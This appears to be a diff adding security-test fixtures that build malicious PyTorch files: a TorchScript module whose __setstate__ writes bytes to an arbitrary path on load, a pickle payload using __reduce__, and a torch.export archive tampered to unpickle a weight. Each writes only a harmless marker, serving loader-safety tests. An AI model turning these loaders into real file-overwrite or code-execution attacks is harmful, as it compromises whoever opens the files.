@@ -1,0 +1,91 @@
+"""Files that run code when opened the wrong way; each writes a marker file as its proof.
+
+The TorchScript one is the real attack of issue 7: a scripted ``__setstate__`` that opens
+any path with ``torch.from_file(..., shared=True)`` and writes bytes into it; here the
+path is a harmless marker in the test's temporary folder.
+"""
+
+from __future__ import annotations
+
+import json
+import pickle
+import zipfile
+from pathlib import Path
+from typing import Tuple
+
+import torch
+from torch import nn
+
+MARKER_BYTES = [80, 87, 78, 10]  # "PWN\n"
+
+
+class MarkerWriter(nn.Module):
+    """Scripted, its ``__setstate__`` runs inside ``torch.jit.load`` and writes ``marker``."""
+
+    def __init__(self, marker: str) -> None:
+        super().__init__()
+        self.marker = marker
+        self.weight = nn.Parameter(torch.ones(3))
+        self.scratch = torch.zeros(4, dtype=torch.uint8)
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return x * self.weight
+
+    @torch.jit.export
+    def __getstate__(self) -> Tuple[str, torch.Tensor, bool]:
+        return (self.marker, self.weight, self.training)
+
+    @torch.jit.export
+    def __setstate__(self, state: Tuple[str, torch.Tensor, bool]) -> None:
+        self.marker = state[0]
+        self.weight = state[1]
+        self.training = state[2]
+        written = torch.from_file(self.marker, shared=True, size=4, dtype=torch.uint8)
+        written.copy_(torch.tensor([80, 87, 78, 10], dtype=torch.uint8))
+        self.scratch = written  # kept, so the compiler cannot drop the write as dead code
+
+
+class _Touch:
+    """Unpickling this creates ``marker``."""
+
+    def __init__(self, marker: str) -> None:
+        self.marker = marker
+
+    def __reduce__(self):
+        return (Path.touch, (Path(self.marker),))
+
+
+def torchscript_archive(path: Path, marker: Path) -> Path:
+    torch.jit.script(MarkerWriter(str(marker))).save(str(path))
+    return path
+
+
+def pickle_file(path: Path, marker: Path) -> Path:
+    path.write_bytes(pickle.dumps(_Touch(str(marker))))
+    return path
+
+
+def export_program(path: Path, marker: Path) -> Path:
+    """A real ``torch.export.save`` archive whose first weight is switched to a pickle:
+    ``torch.export.load`` unpickles it with ``weights_only=False``."""
+    clean = path.with_name(path.name + ".clean.pt2")
+    program = torch.export.export(nn.Sequential(nn.Linear(2, 2)), (torch.zeros(1, 2),))
+    torch.export.save(program, str(clean))
+    with zipfile.ZipFile(clean) as source, zipfile.ZipFile(path, "w") as target:
+        for info in source.infolist():
+            data = source.read(info.filename)
+            if info.filename.endswith("weights/model_weights_config.json"):
+                config = json.loads(data)
+                config["config"]["0.weight"]["use_pickle"] = True
+                data = json.dumps(config).encode()
+            elif info.filename.endswith("weights/weight_0"):
+                data = pickle.dumps(_Touch(str(marker)))
+            target.writestr(info, data)
+    clean.unlink()
+    return path
+
+
+def clean_export_program(path: Path) -> Path:
+    program = torch.export.export(nn.Sequential(nn.Linear(2, 3)), (torch.zeros(1, 2),))
+    torch.export.save(program, str(path))
+    return path
